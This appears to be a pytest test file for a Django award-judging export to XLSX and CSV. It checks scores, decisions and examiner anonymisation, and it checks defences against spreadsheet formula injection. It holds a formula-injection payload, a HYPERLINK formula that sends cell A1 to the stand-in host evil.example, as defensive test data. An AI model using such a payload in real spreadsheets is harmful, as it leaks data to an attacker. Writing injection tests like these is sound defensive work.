"""The cycle's export: the right sheets and the known numbers, no formula anywhere, in
XLSX, in CSV and from the command."""

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from award.models import Criterion, Unit
from judging import exports as exports_cycle
from judging import services as judging_services
from judging.models import Meeting
from tests.support.teams import confirmed_team, finalise

pytestmark = pytest.mark.django_db
SHARED_WORLD = ("cycle", "slk", "committee", "scored")  # built once for the module (tests/support/world.py)


SHEET_NAMES = ["Sammanfattning", "Examinatorer", "Konsensus", "Beslut"]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.fixture
def decided(scored, cycle, committee, slk):
    """The known data set with a signed decision (b1 wins, a2 honourable mention; the
    conflicted member stepped out), and hostile text in a unit name, a citation and a note."""
    a1, a2, b1 = scored["a1"], scored["a2"], scored["b1"]
    a1.unit.name = EVIL
    a1.unit.save()
    item = a1.consensus.items.order_by("criterion__number").first()
    item.discussion_note = "-2+3 poäng\vefter diskussion"  # with a vertical tab pasted from Word
    item.save()
    judging_services.committee_conflict_declare(
        cycle=cycle, member=committee["conflicted"], target=b1.unit, reason="Jäv", by=committee["conflicted"]
    )
    meeting = judging_services.meeting_record(
        cycle=cycle,
        kind=Meeting.Kind.FINAL,
        date=cycle.final_committee_meeting,
        present=committee.values(),
        by=slk,
    )
    decision = judging_services.decision_save(
        meeting=meeting,
        track=scored["track"],
        competition_class=b1.competition_class,
        no_award=False,
        rationale="Bäst i klassen",
        outcomes=[
            judging_services.OutcomeData(application=b1, outcome="winner", citation="@Föredömligt arbete"),
            judging_services.OutcomeData(application=a2, outcome="honourable_mention", citation="+Hedervärt"),
        ],
        by=committee["chair"],
    )
    judging_services.decision_sign(decision=decision, by=committee["chair"])
    return scored


def _workbook(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def _records(sheet) -> list[dict]:
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in rows[1:]]


def _assert_no_formulas(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def _export_xlsx(client, user, cycle):
    client.force_login(user)
    response = client.get(reverse("judging:cycle_export", args=[cycle.year]), {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"] == exports_cycle.XLSX_CONTENT_TYPE
    assert f"omgang-{cycle.year}.xlsx" in response["Content-Disposition"]
    return _workbook(b"".join(response.streaming_content))


def test_export_page_links_both_formats(client, cycle, slk):
    client.force_login(slk)
    html = client.get(reverse("judging:cycle_export", args=[cycle.year])).content.decode()
    assert "?format=xlsx" in html and "?format=csv" in html
    for slug in exports_cycle.SHEETS:
        assert f"?format=csv&amp;sheet={slug}" in html


def test_xlsx_has_the_sheets_and_the_known_numbers(client, decided, cycle, committee):
    book = _export_xlsx(client, committee["member"], cycle)
    assert book.sheetnames == SHEET_NAMES
    summary = {r["Bidragskod"]: r for r in _records(book["Sammanfattning"])}
    a1, a2, b1 = (summary[decided[k].code] for k in ("a1", "a2", "b1"))
    assert (a1["Konsensustotal"], a2["Konsensustotal"], b1["Konsensustotal"]) == (450, 650, 800)
    assert (a1["Placering i klassen"], a2["Placering i klassen"], b1["Placering i klassen"]) == (3, 2, 1)
    assert (b1["Utfall"], a2["Utfall"], a1["Utfall"]) == ("Vinnare", "Hedersomnämnande", None)
    assert a1["Kan tilldelas utmärkelsen"] == "Ja" and a1["Total efter platsbesök"] is None

    criteria = Criterion.objects.filter(track=decided["track"]).count()
    examiners = _records(book["Examinatorer"])
    assert len(examiners) == 3 * criteria * 4
    on_b1 = [r for r in examiners if r["Bidragskod"] == decided["b1"].code and r["Kriterium nr"] == 1]
    assert sorted(r["Poäng (%)"] for r in on_b1) == [70, 80, 80, 90]
    assert sorted(r["Avvikelse från konsensus"] for r in on_b1) == [-10, 0, 0, 10]
    assert {r["Konsensuspoäng (%)"] for r in on_b1} == {80} and {r["Lag"] for r in on_b1} == {"Lag B"}

    consensus = _records(book["Konsensus"])
    assert len(consensus) == 3 * criteria
    assert {r["Poäng som gäller (%)"] for r in consensus if r["Bidragskod"] == decided["a2"].code} == {65}

    decisions = _records(book["Beslut"])
    assert [(r["Bidragskod"], r["Utfall"]) for r in decisions] == [
        (decided["b1"].code, "Vinnare"),
        (decided["a2"].code, "Hedersomnämnande"),
    ]
    winner = decisions[0]
    assert winner["Status"] == "Signerat" and winner["Motivering (citat)"] == "@Föredömligt arbete"
    chair, conflicted = committee["chair"], committee["conflicted"]
    assert winner["Signerat av"] == chair.get_full_name()
    assert winner["Deltog inte (jäv)"] == conflicted.get_full_name()
    assert winner["Signerat"] is not None


def test_xlsx_has_no_formula_cells_and_hostile_text_stays_text(client, decided, cycle, slk):
    book = _export_xlsx(client, slk, cycle)
    _assert_no_formulas(book)
    cells = {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (EVIL, "@Föredömligt arbete", "+Hedervärt", "-2+3 poäng\u240befter diskussion"):
        assert cells[text].data_type == "s", text


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def test_csv_zip_has_one_file_per_sheet_with_hostile_text_neutralised(client, decided, cycle, slk):
    client.force_login(slk)
    response = client.get(reverse("judging:cycle_export", args=[cycle.year]), {"format": "csv"})
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert archive.namelist() == [f"{slug}.csv" for slug in exports_cycle.SHEETS]
    summary = _csv_rows(archive.read("sammanfattning.csv").decode())
    header, rows = summary[0], {r[0]: dict(zip(summary[0], r, strict=True)) for r in summary[1:]}
    assert header[0] == "Bidragskod"
    assert [rows[decided[k].code]["Konsensustotal"] for k in ("a1", "a2", "b1")] == [
        "450,0",
        "650,0",
        "800,0",
    ]
    assert rows[decided["a1"].code]["Enhet"] == "'" + EVIL
    decisions = archive.read("beslut.csv").decode()
    assert "'@Föredömligt arbete" in decisions and "'+Hedervärt" in decisions
    for name in archive.namelist():
        for row in _csv_rows(archive.read(name).decode()):
            for value in row:
                # Negative numbers are numbers written by the export, not text: no formula.
                if not re.fullmatch(r"-\d+(,\d+)?", value):
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_one_sheet_as_csv(client, decided, cycle, slk):
    client.force_login(slk)
    url = reverse("judging:cycle_export", args=[cycle.year])
    response = client.get(url, {"format": "csv", "sheet": "konsensus"})
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(b"".join(response.streaming_content).decode())
    assert (
        rows[0][0] == "Bidragskod"
        and len(rows) == 1 + 3 * Criterion.objects.filter(track=decided["track"]).count()
    )
    assert any(value == "'-2+3 poäng\u240befter diskussion" for row in rows for value in row)
    assert client.get(url, {"format": "csv", "sheet": "nope"}).status_code == 404
    assert client.get(url, {"format": "pdf"}).status_code == 404


# A unit name stored before forms and imports refused control characters. PostgreSQL never
# stored NUL (it refuses it), so there the name has an escape character in its place.
STORED = "=Enhet{}med\x07klocka"
SHOWN = "=Enhet{}med\u2407klocka"  # each as its visible control picture: ␀ (or ␛) and ␇


@pytest.fixture
def stored_controls(decided):
    """The name of a2's unit, written straight to the database, with control characters
    after a formula character."""
    nul = "\x00" if connection.vendor == "sqlite" else "\x1b"
    Unit.objects.filter(pk=decided["a2"].unit_id).update(name=STORED.format(nul))
    assert Unit.objects.get(pk=decided["a2"].unit_id).name == STORED.format(nul)
    return SHOWN.format(chr(0x2400 + ord(nul)))


def test_stored_control_characters_are_shown_in_xlsx_and_csv_and_stay_text(
    client, decided, cycle, slk, tmp_path, stored_controls
):
    out = tmp_path / "omgang.xlsx"
    call_command("export_cycle", "--cycle", str(cycle.year), "--out", str(out), stdout=io.StringIO())
    books = [_export_xlsx(client, slk, cycle), openpyxl.load_workbook(out)]
    response = client.get(reverse("judging:cycle_export", args=[cycle.year]), {"format": "csv"})
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))

    code = decided["a2"].code
    for book in books:
        _assert_no_formulas(book)
        summary = [row for row in book["Sammanfattning"].iter_rows(min_row=2) if row[0].value == code]
        assert [(row[1].value, row[1].data_type) for row in summary] == [(stored_controls, "s")]
        examiners = _records(book["Examinatorer"])
        assert {r["Enhet"] for r in examiners if r["Bidragskod"] == code} == {stored_controls}
    for name in archive.namelist():
        rows = _csv_rows(archive.read(name).decode())
        unit = rows[0].index("Enhet")
        assert {row[unit] for row in rows if code in row} == {"'" + stored_controls}, name


def test_command_writes_xlsx_zip_and_a_directory(decided, cycle, tmp_path):
    out = tmp_path / "omgang.xlsx"
    call_command("export_cycle", "--cycle", str(cycle.year), "--out", str(out), stdout=io.StringIO())
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == SHEET_NAMES
    _assert_no_formulas(book)

    zipped = tmp_path / "omgang.zip"
    call_command("export_cycle", "--cycle", str(cycle.year), "--out", str(zipped), stdout=io.StringIO())
    assert zipfile.ZipFile(zipped).namelist() == [f"{slug}.csv" for slug in exports_cycle.SHEETS]

    directory = tmp_path / "csv"
    directory.mkdir()
    call_command("export_cycle", "--cycle", str(cycle.year), "--out", str(directory), stdout=io.StringIO())
    assert sorted(p.name for p in directory.iterdir()) == sorted(f"{s}.csv" for s in exports_cycle.SHEETS)


def test_command_refuses_an_unknown_cycle_or_format(cycle, tmp_path):
    with pytest.raises(CommandError, match="ingen omgång"):
        call_command("export_cycle", "--cycle", "1999", "--out", str(tmp_path / "x.xlsx"))
    with pytest.raises(CommandError, match=r"\.xlsx eller \.zip"):
        call_command("export_cycle", "--cycle", str(cycle.year), "--out", str(tmp_path / "x.csv"))


def test_export_query_count_does_not_grow_with_applications(decided, cycle, quality, slk):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            exports_cycle.write_xlsx(cycle, io.BytesIO())
            exports_cycle.write_csv_zip(cycle, io.BytesIO())
        return len(captured.captured_queries)

    before = queries()
    _team, members, apps = confirmed_team(cycle, quality, slk, name="Lag C", applications=2)
    for application in apps:
        finalise(application, members, [50, 50, 50, 50], 50)
    assert queries() == before


def test_committee_sees_examiners_as_numbers_and_slk_by_name(client, decided, cycle, committee, slk):
    from scoring.models import Assessment

    names = {
        a.member.profile.user.get_full_name()
        for a in Assessment.objects.select_related("member__profile__user").filter(application=decided["b1"])
    }
    column = next(h for h in exports_cycle.examiner_header() if h.startswith("Examinator"))
    as_committee = {
        r[column] for r in _records(_export_xlsx(client, committee["member"], cycle)["Examinatorer"])
    }
    assert as_committee == {"Examinator 1", "Examinator 2", "Examinator 3", "Examinator 4"}
    as_slk = {r[column] for r in _records(_export_xlsx(client, slk, cycle)["Examinatorer"])}
    assert names <= as_slk
